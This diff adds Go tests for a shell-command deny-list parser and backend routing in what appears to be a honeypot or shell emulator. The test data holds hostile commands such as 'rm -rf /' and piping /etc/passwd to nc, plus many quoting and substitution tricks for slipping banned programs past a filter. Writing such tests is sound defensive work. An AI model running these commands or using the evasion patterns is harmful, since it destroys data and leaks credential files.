@@ -0,0 +1,87 @@
+package emulator
+
+import (
+	"net"
+	"testing"
+)
+
+func TestDeniedProgram(t *testing.T) {
+	tests := []struct {
+		command string
+		program string
+	}{
+		{"ls -la", ""},
+		{"rm -rf /", "rm"},
+		{"ls;rm x", "rm"},
+		{"true && sudo rm -rf /", "rm"},
+		{"false || wget x", "wget"},
+		{"cat /etc/passwd | nc 10.0.0.1 4444", "nc"},
+		{"sleep 1 & curl x", "curl"},
+		{"ls\nrm x", "rm"},
+		{"`wget x`", "wget"},
+		{"echo $(curl x)", "curl"},
+		{`echo "$(curl x)"`, "curl"},
+		{"echo \"`curl x`\"", "curl"},
+		{"(rm x)", "rm"},
+		{"{ rm x; }", "rm"},
+		{"if true; then rm x; fi", "rm"},
+		{"VAR=1 nohup wget x", "wget"},
+		{"env A=1 wget x", "wget"},
+		{"$UNSET rm x", "rm"},
+		{"/usr/bin/wget x", "wget"},
+		{`"rm" -rf /`, "rm"},
+		{`'rm' -rf /`, "rm"},
+		{`\rm x`, "rm"},
+		{`r''m x`, "rm"},
+		{`echo ';' ; rm x`, "rm"},
+		// quoted text is an argument, not a command
+		{`echo 'a;rm x'`, ""},
+		{`echo "a;rm x"`, ""},
+		{`echo '$(rm x)'`, ""},
+		{`echo rm`, ""},
+		{`grep wget log`, ""},
+	}
+	for _, test := range tests {
+		t.Run(test.command, func(t *testing.T) {
+			program, denied := deniedProgram(test.command, DefaultDenyList)
+			if program != test.program || denied != (test.program != "") {
+				t.Errorf("deniedProgram(%q) = %q, %v, want %q", test.command, program, denied, test.program)
+			}
+		})
+	}
+}
+
+func TestSelect(t *testing.T) {
+	config := BackendConfig{
+		Default: BackendLLM,
+		Rules: []BackendRule{
+			{SourceCIDR: "10.0.0.0/8", User: "root", Backend: BackendProxy},
+			{User: "root", Backend: BackendHybrid},
+			{SourceCIDR: "10.0.0.0/8", Backend: BackendHybrid},
+			{SourceCIDR: "192.168.0.0/16", Backend: BackendProxy},
+		},
+	}
+	tcp := func(ip string) net.Addr { return &net.TCPAddr{IP: net.ParseIP(ip), Port: 4000} }
+	tests := []struct {
+		name    string
+		config  BackendConfig
+		addr    net.Addr
+		user    string
+		backend string
+	}{
+		{"address and user", config, tcp("10.1.2.3"), "root", BackendProxy},
+		{"user from elsewhere", config, tcp("172.16.0.1"), "root", BackendHybrid},
+		{"address and another user", config, tcp("10.1.2.3"), "admin", BackendHybrid},
+		{"second network", config, tcp("192.168.1.1"), "admin", BackendProxy},
+		{"no rule matches", config, tcp("172.16.0.1"), "admin", BackendLLM},
+		{"address rules skip non-TCP addresses", config, &net.UnixAddr{Name: "sock"}, "admin", BackendLLM},
+		{"empty default is proxy", BackendConfig{}, tcp("10.1.2.3"), "root", BackendProxy},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			if backend := test.config.Select(test.addr, test.user); backend != test.backend {
+				t.Errorf("Select(%s, %s) = %s, want %s", test.addr, test.user, backend, test.backend)
+			}
+		})
+	}
+}